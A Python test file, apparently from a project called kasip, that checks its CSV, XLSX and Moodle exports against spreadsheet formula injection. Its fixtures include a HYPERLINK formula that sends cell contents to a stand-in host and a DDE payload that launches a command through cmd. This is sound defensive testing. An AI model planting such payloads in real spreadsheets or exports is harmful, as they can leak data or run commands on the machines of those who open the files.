"""No file kasip writes hands a spreadsheet a formula (CSV and XLSX injection, issue 15).

The CSV files get OWASP's leading quote and kasip's readers take it off again;
the workbooks keep every text a text cell; Moodle's short names lose the
formula start. docs/exchange-format.md, "Formulas in tables".
"""

from __future__ import annotations

import csv
import io
import itertools
import zipfile
from typing import Any

from hypothesis import example, given, settings
from hypothesis import strategies as st

from kasip.export import EXPORT_FORMATS, ExportOptions
from kasip.export.moodle import write_moodle
from kasip.formats.tables import (
    FORMULA_STARTS,
    guard_cell,
    read_table,
    table_csv,
    table_xlsx,
    unguard_cell,
)
from kasip.gaps.files import ratings_csv
from kasip.gaps.models import ElementRating
from kasip.gaps.ratings import read_ratings
from kasip.model import Document
from kasip.testing import make_card, make_document, make_function, make_item, make_task

FORMULA = '=HYPERLINK("http://example.test/?q="&A1,"Click")'
LIST_ITEM = "- әлеуметтік қызметтердің тізбесі"
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
CARD_ID = "2635-3-001@6"


def formula_document() -> Document:
    items = [
        make_item(FORMULA, item_id=f"{CARD_ID}/f1/t1/s1"),
        make_item(LIST_ITEM, item_id=f"{CARD_ID}/f1/t1/s2"),
        make_item(DDE, item_id=f"{CARD_ID}/f1/t1/s3"),
    ]
    task = make_task(skills=items, knowledge=[])
    return make_document(cards=[make_card(functions=[make_function(tasks=[task])])])


def skills_rows() -> list[dict[str, str]]:
    data = EXPORT_FORMATS["csv"].write([formula_document()], ExportOptions())
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        text = archive.read("skills.csv").decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_csv_export_quotes_every_text_a_spreadsheet_would_run() -> None:
    rows = skills_rows()
    texts = [row["text"] for row in rows]
    assert texts == ["'" + FORMULA, "'" + LIST_ITEM, "'" + DDE]
    # Element IDs are data a machine reads: they never start with a formula character,
    # so they pass as they are.
    assert [row["id"] for row in rows] == [f"{CARD_ID}/f1/t1/s{n}" for n in (1, 2, 3)]
    assert all(not row["id"].startswith("'") for row in rows)


def test_the_xlsx_export_keeps_a_text_beginning_with_equals_a_text_cell() -> None:
    from openpyxl import load_workbook

    data = EXPORT_FORMATS["xlsx"].write([formula_document()], ExportOptions())
    sheet = load_workbook(io.BytesIO(data))["skills"]
    header = [cell.value for cell in sheet[1]]
    column = header.index("text") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
    assert [c.value for c in cells] == [FORMULA, LIST_ITEM, DDE]
    assert [c.data_type for c in cells] == ["s", "s", "s"]


def test_every_workbook_of_table_xlsx_keeps_texts_as_text() -> None:
    from openpyxl import load_workbook

    data = table_xlsx({"questions": (("id", "stem"), [(1, "=1+1"), (2, "-2+3"), (3, -4)])})
    sheet = load_workbook(io.BytesIO(data))["questions"]
    cells = [sheet.cell(row=r, column=2) for r in range(2, 5)]
    assert [(c.value, c.data_type) for c in cells] == [("=1+1", "s"), ("-2+3", "s"), (-4, "n")]


def test_moodle_short_names_lose_the_formula_start_and_descriptions_keep_the_text() -> None:
    text = write_moodle([formula_document()]).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    items = {row[1]: row for row in rows[2:]}
    shorts = [items[f"{CARD_ID}/f1/t1/s{n}"][2] for n in (1, 2, 3)]
    assert shorts == [FORMULA[1:], LIST_ITEM[2:], DDE[1:]]
    for row in rows[1:]:
        for cell in row[1:4]:  # ID number, short name, description (HTML: starts with "<")
            assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r"}, row
    assert "=HYPERLINK(&quot;http" in items[f"{CARD_ID}/f1/t1/s1"][3]


def test_the_ratings_file_gives_back_evidence_that_begins_like_a_formula() -> None:
    card = formula_document().cards[0]
    given_ratings = [
        ElementRating(element=f"{CARD_ID}/f1/t1/s1", rating="partly", evidence=FORMULA),
        ElementRating(element=f"{CARD_ID}/f1/t1/s2", rating="fully", evidence="'-quoted"),
    ]
    data = ratings_csv(card, given_ratings)
    assert "'=HYPERLINK" in data.decode("utf-8-sig")
    back = read_ratings(data, name="ratings.csv", card=card)
    assert back[:2] == given_ratings  # the unrated third element comes back unrated


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@'\t\r\n x1.,әҚ\""), max_size=8))
@example("''=")  # found by a random run: read back as "'=" before the guard counted every quote
def test_read_table_gives_back_every_text_table_csv_wrote(text: str) -> None:
    data = table_csv(("element", "text"), [{"element": "A@5/f1", "text": text}])
    rows = read_table(data, name="t.csv", columns=("element", "text"))
    assert [r.values for r in rows] == [{"element": "A@5/f1", "text": text}]
    assert unguard_cell(guard_cell(text)) == text
    guarded = guard_cell(text)
    assert guarded[:1] not in {"=", "+", "-", "@", "\t", "\r"} or _is_number(guarded)


def _is_number(text: str) -> Any:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


def test_every_short_text_comes_back_from_its_guard() -> None:
    # Exhaustive over the characters that matter, up to four of them (random
    # examples found "''=" only once in many runs).
    alphabet = "='-1 a\t"
    for size in range(5):
        for chars in itertools.product(alphabet, repeat=size):
            text = "".join(chars)
            guarded = guard_cell(text)
            assert unguard_cell(guarded) == text, text
            # A spreadsheet runs no cell as a formula, but shows numbers as numbers.
            assert guarded[:1] not in FORMULA_STARTS or _number(text), text


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
